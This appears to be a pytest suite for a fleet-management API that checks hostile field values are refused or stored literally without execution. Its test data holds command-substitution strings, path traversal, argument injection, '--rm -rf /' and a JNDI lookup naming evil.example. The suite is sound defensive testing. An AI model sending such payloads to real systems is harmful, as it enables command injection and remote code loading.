"""Hostile values in every field a client names: refused with a 400 that names the field, or
stored and sent to the server as literal data (the stand-in docker's record shows it) with
nothing else run. Oversized bodies are 413."""

from __future__ import annotations

import functools
import shutil
import tempfile
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from pathlib import Path
from typing import Any, Final

import httpx
import msgspec
import pytest
from api_fixtures import Caller, client_of, mint, new_instance, new_server, serving
from saga_fixtures import Fleet, free_host_ports, read_text

from api.app import create_app
from api.fields import RESERVED_ENV_VARS
from events.instance import InstanceProvisioned, ProvisioningFailed, instance_stream
from events.pool import Pool
from events.server import ServerValidated, server_stream
from odoofleet.settings import Settings

HOSTILE: Final = {
    "shell": "$(touch /tmp/pwned)`id`;|&><*?~# x",
    "quotes": "it's \"quoted\" `back` \\'",
    "newline": "a\nb",
    "carriage return": "a\rb",
    "NUL": "a\x00b",
    "unicode": "Ünïcødé ✓ 日本語 🚀",
    "bidi override": "\u202egnp.exe",
    "line separator": "a\u2028b",
    "path traversal": "../../etc/passwd",
    "leading dash": "--upload-pack=touch",
    "100 KB": "x" * 100_000,
    "empty": "",
}
# What no field may store: PostgreSQL text holds no NUL, every field is shorter, and a line
# break would start a new entry in the files the values are written to.
ALWAYS_REFUSED: Final = ("NUL", "100 KB", "newline", "carriage return")
FAR_FUTURE: Final = "2999-01-01T00:00:00Z"
MIB: Final = 1 << 20


class Target(msgspec.Struct, frozen=True):
    """Where a hostile value goes: the body that carries it and how to read it back."""

    field: str  # as a 400 names it in errors[0].field
    body: Callable[[str], dict[str, Any]]
    shown: Callable[[dict[str, Any]], Any]
    stored: Callable[[str], Any] = lambda value: value
    time_travel: bool = True  # also readable folded from its events (`asOf`)
    secret: bool = False  # read back with `reveal=envVars` (values are masked otherwise)


def field_target(field: str, *, time_travel: bool = True) -> Target:
    return Target(
        field, lambda value: {field: value}, lambda shown: shown[field], time_travel=time_travel
    )


ADDONS_ENTRY: Final = Target(
    "addonsPath",
    lambda value: {"addonsPath": f"/mnt/extra-addons,/mnt/{value}"},
    lambda shown: shown["addonsPath"],
    lambda value: f"/mnt/extra-addons,/mnt/{value}",
)
ENV_NAME: Final = Target(
    "envVars",
    lambda value: {"envVars": {value: "x"}},
    lambda shown: shown["envVars"],
    lambda value: {value: "x"},
    secret=True,
)
ENV_VALUE: Final = Target(
    "envVars",
    lambda value: {"envVars": {"HOSTILE": value}},
    lambda shown: shown["envVars"],
    lambda value: {"HOSTILE": value},
    secret=True,
)
CREATE_TARGETS: Final = {
    "name": field_target("name"),
    "slug": field_target("slug"),
    "branch": field_target("branch"),
    "projectId": field_target("projectId"),
    "templateId": field_target("templateId"),
    "addonsPath entry": ADDONS_ENTRY,
    "envVars name": ENV_NAME,
    "envVars value": ENV_VALUE,
}
UPDATE_TARGETS: Final = {
    "name": field_target("name"),
    "addonsPath entry": ADDONS_ENTRY,
    "envVars name": ENV_NAME,
    "envVars value": ENV_VALUE,
}
SERVER_TARGETS: Final = {
    field: field_target(field, time_travel=False) for field in ("name", "host", "sshUser")
}


async def newest_position(pool: Pool) -> int:
    """The newest event's position (EventStore.head() may lag behind other tests'
    transactions; this is exact)."""
    async with pool.connection() as conn:
        cur = await conn.execute("SELECT coalesce(max(position), 0) FROM events")
        row = await cur.fetchone()
    return int(row[0]) if row else 0


def refusal_problem(answer: httpx.Response, field: str) -> str | None:
    """Why `answer` is not a 400 problem naming `field` (None when it is one)."""
    if answer.headers.get("content-type") != "application/problem+json":
        return f"content type {answer.headers.get('content-type')}"
    errors = answer.json().get("errors") or [{}]
    if errors[0].get("field") != field:
        return f"names {errors[0].get('field')!r}, not {field!r}"
    return None


async def literal_problem(
    client: Caller, answer: httpx.Response, path: str, target: Target, value: str
) -> str | None:
    """Why the resource written by `answer` does not show `value` byte for byte, both in the
    read model and folded from its events (None when both do)."""
    after = {"X-Min-Position": answer.headers.get("x-position", "1")}
    revealed = {"reveal": "envVars"} if target.secret else {}
    views = {"read model": (await client.get(path, headers=after, params=revealed)).json()}
    if target.time_travel:
        past = {"asOf": FAR_FUTURE, **revealed}
        views["events"] = (await client.get(path, params=past)).json()
    for source, shown in views.items():
        if target.shown(shown) != target.stored(value):
            return f"{source} shows {target.shown(shown)!r:.80}"
    return None


async def outcome(
    client: Caller,
    pool: Pool,
    send: Callable[[], Awaitable[httpx.Response]],
    target: Target,
    value: str,
    path_of: Callable[[httpx.Response], str],
) -> tuple[int, str | None]:
    """Send one hostile request; its status and what is wrong with the answer, if anything."""
    before = await newest_position(pool)
    answer = await send()
    if answer.status_code == 400:
        if await newest_position(pool) != before:
            return 400, "a refused request appended events"
        return 400, refusal_problem(answer, target.field)
    if answer.status_code in (200, 201, 202):
        return answer.status_code, await literal_problem(
            client, answer, path_of(answer), target, value
        )
    return answer.status_code, f"status {answer.status_code}: {answer.text[:200]}"


def verdict(results: dict[str, tuple[int, str | None]]) -> dict[str, str]:
    """Every hostile value whose answer is wrong: neither a 400 naming the field nor stored
    literally, or one of ALWAYS_REFUSED that was not refused."""
    wrong = {name: problem for name, (_, problem) in results.items() if problem}
    for name in ALWAYS_REFUSED:
        if results[name][0] != 400:
            wrong[name] = f"accepted with {results[name][0]}"
    return wrong


@pytest.fixture
async def server_id(alice: Caller) -> str:
    return await new_server(alice)


@pytest.mark.parametrize("target", CREATE_TARGETS.values(), ids=CREATE_TARGETS.keys())
async def test_a_hostile_value_in_a_create_is_refused_naming_its_field_or_stored_literally(
    alice: Caller, pool: Pool, server_id: str, target: Target
) -> None:
    results = {}
    for n, (name, value) in enumerate(HOSTILE.items()):
        body = {"name": f"Hostile {n}", "serverId": server_id} | target.body(value)
        results[name] = await outcome(
            alice,
            pool,
            functools.partial(alice.post, "/api/instances", json=body),
            target,
            value,
            lambda answer: answer.headers["location"],
        )

    assert verdict(results) == {}


@pytest.mark.parametrize("target", UPDATE_TARGETS.values(), ids=UPDATE_TARGETS.keys())
async def test_a_hostile_value_in_an_update_is_refused_naming_its_field_or_stored_literally(
    alice: Caller, pool: Pool, server_id: str, target: Target
) -> None:
    path = f"/api/instances/{(await new_instance(alice, server_id))['id']}"
    results = {}
    for name, value in HOSTILE.items():
        body = target.body(value)
        results[name] = await outcome(
            alice,
            pool,
            functools.partial(alice.patch, path, json=body),
            target,
            value,
            lambda answer: path,
        )

    assert verdict(results) == {}


@pytest.mark.parametrize("target", SERVER_TARGETS.values(), ids=SERVER_TARGETS.keys())
async def test_a_hostile_value_in_a_server_is_refused_naming_its_field_or_stored_literally(
    alice: Caller, pool: Pool, target: Target
) -> None:
    results = {}
    for n, (name, value) in enumerate(HOSTILE.items()):
        body = {
            "name": f"box-{n}",
            "host": "10.0.0.5",
            "sshUser": "deploy",
            "authMethod": "password",
            "sshPassword": "pw",
        } | target.body(value)
        results[name] = await outcome(
            alice,
            pool,
            functools.partial(alice.post, "/api/servers", json=body),
            target,
            value,
            lambda answer: f"/api/servers/{answer.json()['id']}",
        )

    assert verdict(results) == {}


# ---- envVars names odoofleet sets itself (issue #4) ------------------------------------------

# ODOO_* and PG* are refused as families (Odoo and libpq read them ahead of odoo.conf).
LOOK_ALIKES: Final = ("HOSTNAME", "PORTAL", "USERNAME", "PASSWORD2", "MY_ODOO_RC", "DB_HOST", "XPG")


@pytest.mark.parametrize("name", RESERVED_ENV_VARS)
async def test_an_env_var_odoofleet_sets_itself_is_refused_on_create_and_update(
    alice: Caller, pool: Pool, server_id: str, name: str
) -> None:
    path = f"/api/instances/{(await new_instance(alice, server_id))['id']}"
    before = await newest_position(pool)
    env = {"SMTP_HOST": "mail", name: "mine"}

    created = await alice.post(
        "/api/instances", json={"name": "x", "serverId": server_id} | {"envVars": env}
    )
    updated = await alice.patch(path, json={"envVars": env})

    for answer in (created, updated):
        assert answer.status_code == 400, answer.text
        assert refusal_problem(answer, "envVars") is None
        assert name in answer.json()["errors"][0]["message"]
    assert await newest_position(pool) == before


async def test_env_vars_that_only_look_like_reserved_ones_are_accepted(
    alice: Caller, server_id: str
) -> None:
    env = {name: "x" for name in LOOK_ALIKES}

    created = await new_instance(alice, server_id, envVars=env)
    updated = await alice.patch(f"/api/instances/{created['id']}", json={"envVars": env})

    assert created["envVars"] == dict.fromkeys(env, "********")
    assert updated.status_code == 200


# ---- oversized bodies --------------------------------------------------------------------------

BODY_ENDPOINTS: Final = [
    ("POST", "/api/instances"),
    ("PATCH", "/api/instances/{id}"),
    ("POST", "/api/instances/{id}/control"),
    ("POST", "/api/servers"),
]


async def chunks(data: bytes, size: int = 64 * 1024) -> AsyncIterator[bytes]:
    for start in range(0, len(data), size):
        yield data[start : start + size]


@pytest.mark.parametrize("chunked", [False, True], ids=["content-length", "chunked"])
@pytest.mark.parametrize(("method", "path"), BODY_ENDPOINTS)
async def test_a_body_over_one_mebibyte_is_413_and_changes_nothing(
    alice: Caller, pool: Pool, server_id: str, method: str, path: str, chunked: bool
) -> None:
    instance = await new_instance(alice, server_id)
    body = msgspec.json.encode({"name": "x", "padding": "x" * MIB})
    before = await newest_position(pool)

    answer = await alice.request(
        method,
        path.format(id=instance["id"]),
        content=chunks(body) if chunked else body,
        headers={"Content-Type": "application/json"},
    )

    assert answer.status_code == 413, answer.text
    assert answer.headers["content-type"] == "application/problem+json"
    assert await newest_position(pool) == before


# ---- end to end: through the sagas to a real sshd ----------------------------------------------


def hostile_env(canary: Path) -> dict[str, str]:
    """Every kind of value the API accepts in envVars; any shell or Compose evaluation of one
    of them leaves a file next to `canary` or changes the value."""
    return {
        "SHELL_SYNTAX": (
            f"$(touch {canary}-1)`touch {canary}-2`; touch {canary}-3 && touch {canary}-4"
            f" | touch {canary}-5 & touch {canary}-6 > {canary}-7 < /dev/null # done"
        ),
        "QUOTES": f"it's \"double\" 'single' `touch {canary}-8` \\' \\\" '\"'\"'",
        "DOLLARS": "${HOME} $HOME $$ $1 ${IFS} ${X:-default} ${jndi:ldap://evil.example/x}",
        "BACKSLASHES": "\\n is not a newline, \\\\ \\t \\",
        "ENV_LINES": "A=B\\nC=D\\r\\nexport E=F",
        "UNICODE": "Ünïcødé ✓ 日本語 🚀 e\u0301",
        "BIDI": "\u202egnp.exe\u202c",
        "INVISIBLE": "zero\u200bwidth\ufeffbom",
        "SEPARATORS": "line\u2028paragraph\u2029next\x85line",
        "TRAVERSAL": "../../../../etc/passwd",
        "TAB": "a\tb",
        "EMPTY": "",
        "PADDED": "  padded  ",
        "DASHES": "--rm -rf / --privileged",
        "FORMATS": "%s%n%x {} {0} %(x)s",
        "LARGEST": "y" * 32_768,
    }


def canaries(folder: Path) -> list[Path]:
    return sorted(folder.glob("pwned*"))


@pytest.fixture
def canary_dir() -> Iterator[Path]:
    """A folder with a short path (a name has at most 100 characters), for the files an
    evaluated value would leave."""
    folder = Path(tempfile.mkdtemp(prefix="canary-"))
    yield folder
    shutil.rmtree(folder)


@pytest.fixture
async def operator(
    settings: Settings, pool: Pool, projections: None, fleet: Fleet
) -> AsyncIterator[Caller]:
    """A manage caller of an API whose commands the relay and the saga workers carry out on
    this test's sshd."""
    app = create_app(settings.for_api(), pool=pool, host_ports=free_host_ports())
    async with serving(app), client_of(app, mint(settings)) as client:
        yield client


async def register_sshd(operator: Caller, fleet: Fleet) -> str:
    body = {
        "name": "the test sshd",
        "host": "127.0.0.1",
        "port": fleet.sshd.port,
        "sshUser": "root",
        "authMethod": "key",
        "sshPrivateKey": fleet.sshd.client_private_key,
        "hostKey": fleet.sshd.host_key_line,
    }
    answer = await operator.post("/api/servers", json=body)
    assert answer.status_code == 201, answer.text
    server_id: str = answer.json()["id"]
    await fleet.wait_for(server_stream(server_id), ServerValidated)
    return server_id


async def provisioned(operator: Caller, fleet: Fleet, **fields: Any) -> dict[str, Any]:
    """A new instance on the test's sshd, once its provisioning has succeeded."""
    server_id = await register_sshd(operator, fleet)
    answer = await operator.post("/api/instances", json={"serverId": server_id} | fields)
    assert answer.status_code == 202, answer.text
    instance: dict[str, Any] = answer.json()
    outcome = await fleet.wait_for(
        instance_stream(instance["id"]), InstanceProvisioned, ProvisioningFailed, timeout=60
    )
    assert isinstance(outcome, InstanceProvisioned), outcome
    return instance


def container_env(fleet: Fleet, slug: str) -> dict[str, str]:
    """The app container's environment as Compose resolved it: its output is a compose file
    again, so each literal `$` shows doubled."""
    container = fleet.sshd.container(f"{slug}-blue-odoo-1")
    assert container is not None
    pairs = (line.split("=", 1) for line in container["Config"]["Env"])
    return {name: value.replace("$$", "$") for name, value in pairs}


def argvs_showing(fleet: Fleet, values: list[str]) -> list[list[str]]:
    """Docker calls with one of `values` on their command line (visible in `ps` to every
    user of the server)."""
    return [
        argv
        for argv in fleet.sshd.docker_argvs()
        if any(value in word for word in argv for value in values)
    ]


async def test_accepted_hostile_values_reach_the_server_literally_and_nothing_else_runs(
    operator: Caller, fleet: Fleet, canary_dir: Path
) -> None:
    """Literal: the container's environment (as Compose resolved instance.env) and odoo.conf
    hold each value byte for byte. Nothing else ran: no canary file exists, and no value was
    ever on a docker command line."""
    canary = canary_dir / "pwned"
    env = hostile_env(canary)
    addons = "/mnt/extra-addons,/mnt/odd.dir_x-y/./z,/"

    instance = await provisioned(
        operator,
        fleet,
        name=f"$(touch {canary}-n)`touch {canary}-m`;'Ü' \"x\"",
        branch="feature/x.y_z-1",
        addonsPath=addons,
        envVars=env,
    )

    shown = container_env(fleet, instance["slug"])
    assert {name: shown.get(name) for name in env} == env
    odoo_conf = read_text(f"{fleet.root}/{instance['slug']}/odoo.conf")
    assert f"\naddons_path = {addons}\n" in odoo_conf
    assert canaries(canary_dir) == []
    assert argvs_showing(fleet, [value for value in env.values() if len(value) > 4]) == []
